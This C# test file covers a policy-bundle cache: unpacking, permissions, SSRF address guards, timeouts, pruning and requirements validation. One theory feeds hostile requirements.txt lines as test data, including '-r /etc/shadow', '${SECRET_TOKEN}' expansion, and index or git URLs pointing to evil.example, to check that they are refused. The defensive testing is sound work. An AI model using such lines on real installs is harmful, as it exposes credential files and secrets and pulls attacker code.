using System.Diagnostics;
using System.Net;
using Microsoft.Extensions.DependencyInjection;
using PolicyGrid.Core.Errors;
using PolicyGrid.Core.Ports;
using PolicyGrid.Embedded.Storage;
using PolicyGrid.Runtime.Bundles;
using PolicyGrid.Runtime.Execution;
using PolicyGrid.TestSupport;
using Shouldly;
using static PolicyGrid.Embedded.Tests.Bundles.TestArchives;
using File = System.IO.File;

namespace PolicyGrid.Embedded.Tests.Bundles;

public sealed class BundleCacheTests : IDisposable
{
    private readonly TempDirectory _dir = new();
    private readonly FileBundleStore _store;
    private readonly List<ServiceProvider> _providers = [];
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    public BundleCacheTests()
    {
        _store = new FileBundleStore(_dir.File("bundles"));
        // The cache must be readable by the worker user, so it lives outside /root like the default.
        File.SetUnixFileMode(_dir.Path, BundleModes.Directory);
    }

    public void Dispose()
    {
        foreach (var p in _providers) p.Dispose();
        _dir.Dispose();
    }

    private BundleCache Cache(Action<BundleCacheOptions>? configure = null)
    {
        var options = new BundleCacheOptions { CacheDirectory = _dir.File("cache"), DownloadRetries = 1, DownloadTimeout = TimeSpan.FromSeconds(10) };
        configure?.Invoke(options);
        var provider = new ServiceCollection().AddSingleton<IBundleStore>(_store).AddBundleCache(options).BuildServiceProvider();
        _providers.Add(provider);
        provider.GetRequiredService<IPolicyBundleSource>().ShouldBeOfType<BundleCache>();
        return provider.GetRequiredService<BundleCache>();
    }

    private static byte[] ValidBundle(string marker = "") => Zip(("code/function.py", FunctionPy + "# " + marker + "\n"));

    [Fact]
    public async Task A_stored_bundle_unpacks_once_into_a_directory_the_worker_user_can_read()
    {
        var stored = await _store.PutAsync(ValidBundle(), Ct);
        var cache = Cache();
        var first = await cache.GetAsync(stored.Code, null, Ct);
        first.Sha256.ShouldBe(stored.Sha256);
        first.SitePackages.ShouldBeNull();
        first.Root.ShouldStartWith(cache.CacheDirectory);
        var function = Path.Combine(first.Root, "code", "function.py");
        File.ReadAllText(function).ShouldStartWith("class AIOSv1PolicyRule");
        var written = File.GetLastWriteTimeUtc(function);

        var again = await Cache().GetAsync(stored.Code, null, Ct); // a new cache object finds the unpacked copy on disk
        again.ShouldBe(first);
        File.GetLastWriteTimeUtc(function).ShouldBe(written);
        Directory.GetDirectories(cache.CacheDirectory).ShouldBe([Path.Combine(cache.CacheDirectory, stored.Sha256)]); // no temp dirs left

        for (var dir = first.Root; dir != cache.CacheDirectory; dir = Path.GetDirectoryName(dir)!)
            File.GetUnixFileMode(dir).ShouldBe(BundleModes.Directory);
        // The cache itself can be passed through but not listed: a policy reaches only bundles whose hash it knows.
        File.GetUnixFileMode(cache.CacheDirectory).ShouldBe(BundleModes.Directory & ~(UnixFileMode.GroupRead | UnixFileMode.OtherRead));
        File.GetUnixFileMode(function).ShouldBe(BundleModes.File);
        if (File.Exists("/usr/sbin/runuser"))
            (await Run("/usr/sbin/runuser", "-u", "nobody", "--", "cat", function)).ShouldStartWith("class AIOSv1PolicyRule");
    }

    [Fact]
    public async Task A_cache_directory_an_operator_removed_is_made_again_not_listable_by_policies()
    {
        // It came back 0755: after an operator cleared the cache, every policy could list every other policy's bundle.
        var first = await _store.PutAsync(ValidBundle("before"), Ct);
        var next = await _store.PutAsync(ValidBundle("after"), Ct);
        var cache = Cache();
        await cache.GetAsync(first.Code, null, Ct);

        Directory.Delete(cache.CacheDirectory, recursive: true);
        var unpacked = await cache.GetAsync(next.Code, null, Ct);

        File.ReadAllText(Path.Combine(unpacked.Root, "code", "function.py")).ShouldContain("# after");
        File.GetUnixFileMode(cache.CacheDirectory).ShouldBe(BundleModes.Directory & ~(UnixFileMode.GroupRead | UnixFileMode.OtherRead));
    }

    [Fact]
    public async Task A_cache_directory_another_user_made_after_it_was_removed_gets_no_code_and_the_call_is_a_503()
    {
        if (!OperatingSystem.IsLinux() || Environment.UserName != "root") Assert.Skip("needs root on Linux to hand the directory to another user");
        var stored = await _store.PutAsync(ValidBundle("planted"), Ct);
        var cache = Cache();
        Directory.Delete(cache.CacheDirectory, recursive: true);
        Directory.CreateDirectory(cache.CacheDirectory);
        using (var chown = Process.Start("chown", ["nobody", cache.CacheDirectory])) await chown.WaitForExitAsync(Ct);

        // The checks at start were not made again: the bundle was unpacked into the other user's directory.
        var e = await Should.ThrowAsync<PolicyGridException>(() => cache.GetAsync(stored.Code, null, Ct));

        e.Status.ShouldBe(503);
        e.Message.ShouldContain("PolicyGrid:Runtime:Bundles:CacheDirectory");
        e.Message.ShouldNotContain(cache.CacheDirectory);
        Directory.EnumerateFileSystemEntries(cache.CacheDirectory).ShouldBeEmpty();
    }

    [Fact]
    public async Task A_leftover_folder_of_another_layout_at_the_bundles_place_is_replaced_not_a_failure()
    {
        var stored = await _store.PutAsync(ValidBundle("leftover"), Ct);
        var cache = Cache();
        var leftover = Path.Combine(cache.CacheDirectory, stored.Sha256, "code");
        Directory.CreateDirectory(leftover);
        File.WriteAllText(Path.Combine(leftover, "function.py"), "stale");

        var unpacked = await cache.GetAsync(stored.Code, null, Ct);

        File.ReadAllText(Path.Combine(unpacked.Root, "code", "function.py")).ShouldContain("# leftover");
        Directory.Exists(leftover).ShouldBeFalse();
    }

    [Fact]
    public async Task Concurrent_first_calls_share_one_unpack()
    {
        var stored = await _store.PutAsync(ValidBundle("concurrent"), Ct);
        var cache = Cache();
        var all = await Task.WhenAll(Enumerable.Range(0, 8).Select(_ => Task.Run(() => cache.GetAsync(stored.Code, null, Ct), Ct)));
        all.Distinct().Count().ShouldBe(1);
    }

    [Theory]
    [InlineData("bundle://sha256/0000000000000000000000000000000000000000000000000000000000000000", 404)]
    [InlineData("bundle://sha256/xyz", 400)]
    [InlineData("ftp://example.org/b.zip", 400)]
    [InlineData("not a url", 400)]
    [InlineData("", 400)]
    public async Task Unknown_or_malformed_codes_are_refused(string code, int status)
    {
        var e = await Should.ThrowAsync<PolicyGridException>(() => Cache().GetAsync(code, null, Ct));
        e.Status.ShouldBe(status);
    }

    [Fact]
    public async Task A_stored_archive_that_is_not_readable_is_a_400()
    {
        var stored = await _store.PutAsync("plain text"u8.ToArray(), Ct);
        var e = await Should.ThrowAsync<PolicyGridException>(() => Cache().GetAsync(stored.Code, null, Ct));
        e.Status.ShouldBe(400);
        e.Message.ShouldContain("not a readable archive");
        Directory.GetDirectories(_dir.File("cache")).ShouldBeEmpty();
    }

    [Fact]
    public async Task Loopback_bundle_urls_are_refused_by_default_and_served_when_the_operator_allows_loopback()
    {
        using var server = new LoopbackBundleServer();
        var bundle = ValidBundle("http");
        server.Serve("/b.zip", bundle);

        var refused = await Should.ThrowAsync<PolicyGridException>(() => Cache().GetAsync(server.Url("/b.zip"), null, Ct));
        refused.Status.ShouldBe(400);
        refused.Message.ShouldContain("loopback");
        server.Requests.ShouldBe(0);
        var byName = await Should.ThrowAsync<PolicyGridException>(() => Cache().GetAsync($"http://localhost:{server.Port}/b.zip", null, Ct));
        byName.Message.ShouldContain("loopback");

        var fetched = await Cache(o => o.AllowLoopback = true).GetAsync(server.Url("/b.zip"), null, Ct);
        fetched.Sha256.ShouldBe(Sha256(bundle));
        File.Exists(Path.Combine(fetched.Root, "code", "function.py")).ShouldBeTrue();
        server.Requests.ShouldBe(1);
    }

    [Fact]
    public async Task A_pinned_sha256_that_does_not_match_the_download_is_refused()
    {
        using var server = new LoopbackBundleServer();
        var bundle = ValidBundle("pinned");
        server.Serve("/b.zip", bundle);
        var cache = Cache(o => o.AllowLoopback = true);
        var wrong = new string('a', 64);
        var e = await Should.ThrowAsync<PolicyGridException>(() => cache.GetAsync(server.Url("/b.zip") + "#sha256=" + wrong, null, Ct));
        e.Status.ShouldBe(400);
        e.Message.ShouldContain(Sha256(bundle));
        e.Message.ShouldContain(wrong);
        Directory.Exists(Path.Combine(cache.CacheDirectory, Sha256(bundle))).ShouldBeFalse();
        (await cache.GetAsync(server.Url("/b.zip") + "#sha256=" + Sha256(bundle), null, Ct)).Sha256.ShouldBe(Sha256(bundle));
    }

    [Fact]
    public async Task Bytes_at_an_unpinned_url_that_differ_from_the_recorded_code_sha256_are_refused_with_both_hashes()
    {
        using var server = new LoopbackBundleServer();
        var a = ValidBundle("recorded-a");
        var b = ValidBundle("served-b");
        server.Serve("/b.zip", b);
        var cache = Cache(o => o.AllowLoopback = true);

        var e = await Should.ThrowAsync<PolicyGridException>(() => cache.GetAsync(server.Url("/b.zip"), Sha256(a), Ct));

        e.Status.ShouldBe(502);
        e.Code.ShouldBe(ErrorCodes.BackendError);
        e.Message.ShouldContain(server.Url("/b.zip"));
        e.Message.ShouldContain($"has sha256 {Sha256(b)}, not the expected {Sha256(a)}");
        Directory.Exists(Path.Combine(cache.CacheDirectory, Sha256(b))).ShouldBeFalse(); // nothing of B is unpacked to run
    }

    [Fact]
    public async Task The_once_per_process_memory_of_an_unpinned_url_is_per_expected_hash_so_a_new_pin_takes_effect()
    {
        using var server = new LoopbackBundleServer();
        var a = ValidBundle("memory-a");
        var b = ValidBundle("memory-b");
        var url = server.Url("/b.zip");
        server.Serve("/b.zip", a);
        var cache = Cache(o => o.AllowLoopback = true);
        (await cache.GetAsync(url, null, Ct)).Sha256.ShouldBe(Sha256(a));
        (await cache.GetAsync(url, Sha256(a), Ct)).Sha256.ShouldBe(Sha256(a));

        server.Serve("/b.zip", b);
        // The dry load sees what the URL serves now, not what this process remembered.
        (await cache.FetchCurrentAsync(url, Ct)).Sha256.ShouldBe(Sha256(b));
        // A document re-pinned to B gets B at once; one still pinned to A keeps getting A, never B.
        (await cache.GetAsync(url, Sha256(b), Ct)).Sha256.ShouldBe(Sha256(b));
        (await cache.GetAsync(url, Sha256(a), Ct)).Sha256.ShouldBe(Sha256(a));
        // A cache that never saw A (another replica, or this one after its cache was cleared) refuses B for A.
        var fresh = Cache(o => { o.AllowLoopback = true; o.CacheDirectory = _dir.File("other-cache"); });
        (await Should.ThrowAsync<PolicyGridException>(() => fresh.GetAsync(url, Sha256(a), Ct))).Status.ShouldBe(502);
    }

    [Fact]
    public async Task Redirects_are_followed_only_to_allowed_targets_and_upstream_errors_are_502()
    {
        using var server = new LoopbackBundleServer();
        var bundle = ValidBundle("redirect");
        server.Serve("/real.zip", bundle);
        server.Redirect("/moved", server.Url("/real.zip"));
        // The guard refuses before connecting, so this never sends a packet to the private address.
        server.Redirect("/to-private", "http://10.255.255.1/b.zip");
        var cache = Cache(o => o.AllowLoopback = true);
        (await cache.GetAsync(server.Url("/moved"), null, Ct)).Sha256.ShouldBe(Sha256(bundle));
        var refused = await Should.ThrowAsync<PolicyGridException>(() => cache.GetAsync(server.Url("/to-private"), null, Ct));
        refused.Status.ShouldBe(400);
        refused.Message.ShouldContain("10.255.255.1");
        refused.Message.ShouldContain("private");
        var missing = await Should.ThrowAsync<PolicyGridException>(() => cache.GetAsync(server.Url("/nothing.zip"), null, Ct));
        missing.Status.ShouldBe(502);
    }

    [Fact]
    public async Task A_server_that_stalls_in_the_middle_of_the_body_is_a_503_within_the_download_timeout()
    {
        // The attempt timeout covered the wait for the headers only: a server that sent them and then a trickle (or
        // nothing) held the fetch, and the policy create or call waiting on it, for as long as it liked.
        using var server = new LoopbackBundleServer();
        server.Stall("/slow.zip", declared: 100_000, sent: 1_000);
        var cache = Cache(o => { o.AllowLoopback = true; o.DownloadTimeout = TimeSpan.FromSeconds(1); });
        var started = Stopwatch.StartNew();
        var e = await Should.ThrowAsync<PolicyGridException>(() => cache.GetAsync(server.Url("/slow.zip"), null, Ct).WaitAsync(TimeSpan.FromSeconds(30), Ct));
        e.Status.ShouldBe(503);
        e.Message.ShouldContain("did not finish within 1s");
        e.Message.ShouldContain(server.Url("/slow.zip"));
        started.Elapsed.ShouldBeLessThan(TimeSpan.FromSeconds(15));
        Directory.EnumerateFileSystemEntries(cache.CacheDirectory).ShouldBeEmpty();
    }

    [Fact]
    public async Task An_api_bundle_url_is_answered_from_the_store_without_a_request()
    {
        var stored = await _store.PutAsync(ValidBundle("api-url"), Ct);
        // Loopback is refused here, so any attempt to fetch would fail the test instead of leaving the machine.
        var bundle = await Cache().GetAsync($"http://127.0.0.1:9/api/v1/bundles/sha256/{stored.Sha256}", null, Ct);
        bundle.Sha256.ShouldBe(stored.Sha256);
    }

    [Fact]
    public async Task An_unreachable_host_is_a_503()
    {
        using var server = new LoopbackBundleServer();
        var port = server.Port;
        server.Dispose(); // nothing listens there any more
        var e = await Should.ThrowAsync<PolicyGridException>(() => Cache(o => o.AllowLoopback = true).GetAsync($"http://127.0.0.1:{port}/b.zip", null, Ct));
        e.Status.ShouldBe(503);
    }

    [Fact]
    public async Task File_urls_only_when_the_operator_allows_them()
    {
        var path = _dir.File("local.zip");
        var bundle = ValidBundle("file");
        await File.WriteAllBytesAsync(path, bundle, Ct);
        var e = await Should.ThrowAsync<PolicyGridException>(() => Cache().GetAsync(new Uri(path).AbsoluteUri, null, Ct));
        e.Status.ShouldBe(400);
        e.Message.ShouldContain("AllowFileUrls");
        (await Cache(o => o.AllowFileUrls = true).GetAsync(new Uri(path).AbsoluteUri, null, Ct)).Sha256.ShouldBe(Sha256(bundle));
    }

    [Fact]
    public async Task A_file_url_to_an_endless_file_is_refused_at_the_size_cap_instead_of_read_whole()
    {
        // /dev/zero states a length of 0, so the stated-size check passed and the whole file was read into memory.
        var cache = Cache(o => { o.AllowFileUrls = true; o.MaxArchiveBytes = 1_000_000; });
        var e = await Should.ThrowAsync<PolicyGridException>(() => cache.GetAsync("file:///dev/zero", null, Ct));
        e.Status.ShouldBe(413);
        e.Message.ShouldContain("'/dev/zero' is larger than the limit of 1000000 bytes");
    }

    [Theory]
    [InlineData("127.0.0.1", "loopback")]
    [InlineData("::1", "loopback")]
    [InlineData("::ffff:127.0.0.1", "loopback")]
    [InlineData("10.1.2.3", "private")]
    [InlineData("172.20.0.1", "private")]
    [InlineData("192.168.1.10", "private")]
    [InlineData("169.254.169.254", "link-local")]
    [InlineData("100.64.0.1", "shared")]
    [InlineData("0.0.0.0", "unspecified")]
    [InlineData("fe80::1", "link-local")]
    [InlineData("fd00::1", "private")]
    [InlineData("224.0.0.1", "multicast")]
    [InlineData("::ffff:7f00:1", "loopback")]
    [InlineData("::7f00:1", "reserved")]
    [InlineData("::ffff:0:7f00:1", "reserved")]
    [InlineData("::a9fe:a9fe", "reserved")]
    [InlineData("2002:7f00:1::1", "6to4 of a")]
    [InlineData("2002:a9fe:a9fe::1", "6to4 of a link-local")]
    [InlineData("64:ff9b:1::a00:1", "NAT64")]
    [InlineData("2002:5db8:d822::1", null)]
    [InlineData("93.184.216.34", null)]
    [InlineData("2606:4700::1111", null)]
    public void The_network_guard_classifies_addresses(string address, string? refusal)
    {
        var guard = new BundleNetworkGuard(new BundleCacheOptions());
        var why = guard.Refusal(IPAddress.Parse(address));
        if (refusal is null) why.ShouldBeNull();
        else why.ShouldNotBeNull().ShouldContain(refusal);
        new BundleNetworkGuard(new BundleCacheOptions { AllowLoopback = true, AllowPrivateNetworks = true }).Refusal(IPAddress.Parse(address)).ShouldBeNull();
    }

    [Fact]
    public async Task Requirements_install_from_a_local_wheel_directory_into_the_bundle_site_packages()
    {
        var wheels = _dir.File("wheels");
        Directory.CreateDirectory(wheels);
        await File.WriteAllBytesAsync(Path.Combine(wheels, "tinypkg-0.1-py3-none-any.whl"), Wheel("tinypkg", "0.1", "ANSWER = 42\n"), Ct);
        var bundle = Zip(("code/function.py", "import tinypkg\n" + FunctionPy), ("code/requirements.txt", "# pinned\ntinypkg==0.1\n"));
        var stored = await _store.PutAsync(bundle, Ct);

        var cache = Cache(o => o.PipOptions = ["--no-index", "--find-links", wheels]);
        var result = await cache.GetAsync(stored.Code, null, Ct);
        result.SitePackages.ShouldNotBeNull();
        File.Exists(Path.Combine(result.SitePackages, "tinypkg", "__init__.py")).ShouldBeTrue();
        File.GetUnixFileMode(Path.Combine(result.SitePackages, "tinypkg", "__init__.py")).ShouldBe(BundleModes.File);
        var answer = await Run("python3", "-c", $"import sys; sys.path.insert(0, '{result.SitePackages}'); import tinypkg; print(tinypkg.ANSWER)");
        answer.Trim().ShouldBe("42");
    }

    [Fact]
    public async Task Requirements_a_full_disk_cannot_take_are_the_servers_503_not_a_400_blaming_them()
    {
        // pip's "[Errno 28] No space left on device" was a 400 "requirements.txt could not be installed: ERROR: ...".
        using var disk = SmallDisk.Mount(512 << 10);
        var wheels = _dir.File("big-wheels");
        Directory.CreateDirectory(wheels);
        await File.WriteAllBytesAsync(Path.Combine(wheels, "bigpkg-0.1-py3-none-any.whl"), Wheel("bigpkg", "0.1", $"DATA = '{new string('x', 2 << 20)}'\n"), Ct);
        var stored = await _store.PutAsync(Zip(("code/function.py", FunctionPy), ("code/requirements.txt", "bigpkg==0.1\n")), Ct);
        var cache = Cache(o => { o.CacheDirectory = Path.Combine(disk.Path, "cache"); o.PipOptions = ["--no-index", "--find-links", wheels]; });

        var e = await Should.ThrowAsync<PolicyGridException>(() => cache.GetAsync(stored.Code, null, Ct));

        e.Status.ShouldBe(503, e.Message);
        e.Code.ShouldBe(ErrorCodes.BackendUnavailable);
        e.Message.ShouldBe("the server's storage is full (no space left on device); retry once space has been freed on the server's disk");
        Directory.Exists(Path.Combine(cache.CacheDirectory, stored.Sha256)).ShouldBeFalse();
    }

    [Theory]
    [InlineData("-r /etc/shadow\n")] // pip's error quoted the file's first line: "invalid requirement 'root:*:...'"
    [InlineData("x==${SECRET_TOKEN}\n")] // pip fills ${...} from its environment, the server's: "... for 'x==hunter2'"
    [InlineData("--index-url http://evil.example/simple\nanything\n")]
    [InlineData("evil @ https://evil.example/evil-1.0.tar.gz\n")]
    [InlineData("./code/evilpkg\n")]
    [InlineData("git+https://evil.example/evil.git\n")]
    [InlineData("-e .\n")]
    [InlineData("file:///etc/passwd\n")]
    [InlineData("ok==1.0\nfine \\\n  -r /etc/shadow\n")]
    public async Task Requirements_that_do_more_than_name_packages_are_refused_before_pip_runs(string requirements)
    {
        var stored = await _store.PutAsync(Zip(("code/function.py", FunctionPy), ("code/requirements.txt", requirements)), Ct);
        var cache = Cache(o => o.PipOptions = ["--no-index"]);
        var e = await Should.ThrowAsync<PolicyGridException>(() => cache.GetAsync(stored.Code, null, Ct));
        e.Status.ShouldBe(400);
        e.Message.ShouldContain("is not a plain requirement");
        e.Message.ShouldNotContain("root:");
        Directory.Exists(Path.Combine(cache.CacheDirectory, stored.Sha256)).ShouldBeFalse();
    }

    [Fact]
    public void Plain_requirements_with_extras_specifiers_markers_hashes_and_comments_pass_the_check()
    {
        var file = _dir.File("requirements.txt");
        File.WriteAllText(file, "# pinned\n\nrequests[socks, security] >=2.0,<3 ; python_version >= \"3.8\" and sys_platform != 'win32'  # why\n" +
                                "numpy==1.26.4 --hash=sha256:0123abcd --hash=sha256:ffee\nFoo_Bar.baz~=1.0\npkg (>=1.0)\nsplit \\\n  ==1.0\nplain\n");
        BundleRequirements.CheckRequirements(file);
        File.WriteAllText(file, "ok\nname-with-dash===1.0\n-c constraints.txt\n");
        Should.Throw<PolicyGridException>(() => BundleRequirements.CheckRequirements(file)).Message.ShouldContain("line 3: '-c constraints.txt'");
    }

    [Fact]
    public async Task A_requirement_that_cannot_be_installed_is_a_400_naming_it()
    {
        var wheels = _dir.File("empty-wheels");
        Directory.CreateDirectory(wheels);
        var stored = await _store.PutAsync(Zip(("code/function.py", FunctionPy), ("code/requirements.txt", "nosuchpkg-policygrid==9.9\n")), Ct);
        var cache = Cache(o => o.PipOptions = ["--no-index", "--find-links", wheels]);
        var e = await Should.ThrowAsync<PolicyGridException>(() => cache.GetAsync(stored.Code, null, Ct));
        e.Status.ShouldBe(400);
        e.Message.ShouldContain("nosuchpkg-policygrid==9.9");
        Directory.Exists(Path.Combine(cache.CacheDirectory, stored.Sha256)).ShouldBeFalse();
    }

    private static async Task<string> Run(string file, params string[] args)
    {
        var start = new ProcessStartInfo(file) { RedirectStandardOutput = true, RedirectStandardError = true, UseShellExecute = false };
        foreach (var a in args) start.ArgumentList.Add(a);
        using var p = Process.Start(start)!;
        var output = await p.StandardOutput.ReadToEndAsync(Ct);
        var error = await p.StandardError.ReadToEndAsync(Ct);
        await p.WaitForExitAsync(Ct);
        p.ExitCode.ShouldBe(0, error);
        return output;
    }
}

/// <summary>
/// The cache is bounded by last use (<see cref="BundleCache.Prune"/>): before, nothing removed an unpacked bundle, so the
/// cache grew with every hash ever called.
/// </summary>
public sealed class BundleCachePruneTests : IDisposable
{
    private readonly TempDirectory _dir = new();
    private readonly FileBundleStore _store;
    private static CancellationToken Ct => TestContext.Current.CancellationToken;
    private static readonly IReadOnlySet<string> NoneInUse = new HashSet<string>();

    public BundleCachePruneTests()
    {
        _store = new FileBundleStore(_dir.File("bundles"));
        File.SetUnixFileMode(_dir.Path, BundleModes.Directory);
    }

    public void Dispose() => _dir.Dispose();

    private BundleCache Cache(TimeSpan? keepUnusedFor = null) =>
        new(_store, new BundleCacheSweepTests.NoHttp(), new BundleCacheOptions { CacheDirectory = _dir.File("cache"), KeepUnusedFor = keepUnusedFor ?? TimeSpan.FromDays(1) });

    private async Task<BundleRef> StoreAsync(string marker) =>
        await _store.PutAsync(Zip(("code/function.py", FunctionPy + "# " + marker + "\n")), Ct);

    // As if no process had used the entry for this long.
    private static void Age(BundleDirectory bundle, TimeSpan unused)
    {
        var entry = Path.GetDirectoryName(bundle.Root)!;
        File.SetLastWriteTimeUtc(Path.Combine(entry, BundleCache.UsedMarker), DateTime.UtcNow - unused);
    }

    [Fact]
    public async Task An_entry_unused_past_the_window_is_removed_and_its_next_use_unpacks_it_again()
    {
        var old = await StoreAsync("old");
        var recent = await StoreAsync("recent");
        var cache = Cache();
        var stale = await cache.GetAsync(old.Code, null, Ct);
        var fresh = await cache.GetAsync(recent.Code, null, Ct);
        Age(stale, TimeSpan.FromDays(2));
        Age(fresh, TimeSpan.FromHours(20));
        Directory.CreateDirectory(Path.Combine(cache.CacheDirectory, ".tmp-0123456789abcdef-interrupted", "bundle"));
        Directory.SetLastWriteTimeUtc(Path.Combine(cache.CacheDirectory, ".tmp-0123456789abcdef-interrupted"), DateTime.UtcNow.AddDays(-2));

        cache.Prune(NoneInUse, DateTimeOffset.UtcNow).ShouldBe(1);

        Directory.Exists(Path.GetDirectoryName(stale.Root)).ShouldBeFalse();
        Directory.Exists(fresh.Root).ShouldBeTrue();
        // Nothing else is left behind: no entry set aside, no interrupted unpack.
        Directory.GetDirectories(cache.CacheDirectory).ShouldBe([Path.GetDirectoryName(fresh.Root)!]);

        // Its next use, even one this process remembered a moment ago, unpacks it again from the store.
        var again = await cache.GetAsync(old.Code, null, Ct);
        again.ShouldBe(stale);
        File.ReadAllText(Path.Combine(again.Root, "code", "function.py")).ShouldContain("# old");
    }

    [Fact]
    public async Task An_entry_in_use_here_or_marked_by_another_process_is_kept_and_a_window_of_zero_keeps_everything()
    {
        var held = await StoreAsync("held");
        var shared = await StoreAsync("shared");
        var cache = Cache();
        var inUse = await cache.GetAsync(held.Code, null, Ct);
        var usedElsewhere = await cache.GetAsync(shared.Code, null, Ct);
        Age(inUse, TimeSpan.FromDays(30));
        Age(usedElsewhere, TimeSpan.FromDays(30));
        // Another server sharing the directory (a cache object of its own) uses it now.
        Cache().MarkUsed(shared.Sha256).ShouldBeTrue();

        cache.Prune(new HashSet<string> { held.Sha256 }, DateTimeOffset.UtcNow).ShouldBe(0);

        Directory.Exists(inUse.Root).ShouldBeTrue();
        Directory.Exists(usedElsewhere.Root).ShouldBeTrue();
        Age(usedElsewhere, TimeSpan.FromDays(30));
        Cache(TimeSpan.Zero).Prune(NoneInUse, DateTimeOffset.UtcNow).ShouldBe(0);
        Directory.Exists(usedElsewhere.Root).ShouldBeTrue();
    }

    [Fact]
    public async Task A_removed_entry_is_restored_for_a_consumer_that_kept_its_path_and_a_present_one_is_left_alone()
    {
        var stored = await StoreAsync("kept");
        var cache = Cache();
        var kept = await cache.GetAsync(stored.Code, null, Ct);

        (await cache.RestoreAsync(kept, Ct)).ShouldBeFalse();
        Directory.Delete(Path.GetDirectoryName(kept.Root)!, recursive: true); // another server's sweep

        (await cache.RestoreAsync(kept, Ct)).ShouldBeTrue();
        File.ReadAllText(Path.Combine(kept.Root, "code", "function.py")).ShouldContain("# kept");
        (await cache.RestoreAsync(new BundleDirectory(stored.Sha256, _dir.File("elsewhere"), null), Ct)).ShouldBeFalse();
    }

    [Fact]
    public async Task Uses_are_marked_once_per_interval_per_process_not_per_call()
    {
        var stored = await StoreAsync("busy");
        var cache = Cache();
        await cache.GetAsync(stored.Code, null, Ct);
        var written = cache.MarksWritten;
        written.ShouldBe(1);

        for (var i = 0; i < 1000; i++)
        {
            await cache.GetAsync(stored.Code, null, Ct);
            cache.MarkUsed(stored.Sha256).ShouldBeTrue();
        }

        cache.MarksWritten.ShouldBe(written);
        cache.MarkEvery.ShouldBe(TimeSpan.FromHours(1));
        Cache(TimeSpan.FromMinutes(20)).MarkEvery.ShouldBe(TimeSpan.FromMinutes(5));
        // Another process marks it on its own first use.
        var other = Cache();
        other.MarkUsed(stored.Sha256).ShouldBeTrue();
        other.MarksWritten.ShouldBe(1);
    }

    [Theory]
    [InlineData("-1.00:00:00")]
    [InlineData("00:00:30")]
    public void A_window_that_is_negative_or_shorter_than_a_minute_is_refused_at_start_naming_the_setting(string window)
    {
        var error = Should.Throw<Microsoft.Extensions.Options.OptionsValidationException>(() => Cache(TimeSpan.Parse(window, System.Globalization.CultureInfo.InvariantCulture)));

        error.Failures.ShouldHaveSingleItem().ShouldBe($"PolicyGrid:Runtime:Bundles:KeepUnusedFor is {window}; it must be zero (never remove unused bundles) or at least 00:01:00 (e.g. 7.00:00:00 for a week)");
    }
}

internal static class BundleModes
{
    public const UnixFileMode Directory = UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute
        | UnixFileMode.GroupRead | UnixFileMode.GroupExecute | UnixFileMode.OtherRead | UnixFileMode.OtherExecute;

    public const UnixFileMode File = UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.GroupRead | UnixFileMode.OtherRead;
}

public sealed class BundleCacheSweepTests : IDisposable
{
    private readonly TempDirectory _dir = new();

    public void Dispose() => _dir.Dispose();

    [Fact]
    public void Temp_directories_abandoned_by_a_killed_process_are_removed_and_fresh_ones_kept()
    {
        var cache = _dir.File("cache");
        var old = Path.Combine(cache, ".tmp-abandoned");
        var fresh = Path.Combine(cache, ".tmp-in-progress");
        Directory.CreateDirectory(Path.Combine(old, "bundle"));
        Directory.CreateDirectory(fresh);
        Directory.SetLastWriteTimeUtc(old, DateTime.UtcNow.AddHours(-2));
        _ = new BundleCache(new FileBundleStore(_dir.File("bundles")), new NoHttp(), new BundleCacheOptions { CacheDirectory = cache });
        Directory.Exists(old).ShouldBeFalse();
        Directory.Exists(fresh).ShouldBeTrue();
    }

    [Fact]
    public void A_cache_directory_another_user_made_first_is_refused_at_start_so_nothing_they_planted_runs()
    {
        if (!OperatingSystem.IsLinux() || Environment.UserName != "root") Assert.Skip("needs root on Linux to hand the directory to another user");
        var cache = _dir.File("planted-cache");
        Directory.CreateDirectory(Path.Combine(cache, new string('a', 64), "bundle", "code"));
        using (var chown = System.Diagnostics.Process.Start("chown", ["-R", "nobody", cache])) chown.WaitForExit();
        var error = Should.Throw<InvalidOperationException>(() =>
            new BundleCache(new FileBundleStore(_dir.File("bundles")), new NoHttp(), new BundleCacheOptions { CacheDirectory = cache }));
        error.Message.ShouldContain("PolicyGrid:Runtime:Bundles:CacheDirectory");
        error.Message.ShouldContain("belongs to uid 65534");
    }

    internal sealed class NoHttp : IHttpClientFactory
    {
        public HttpClient CreateClient(string name) => throw new InvalidOperationException("no HTTP in this test");
    }
}
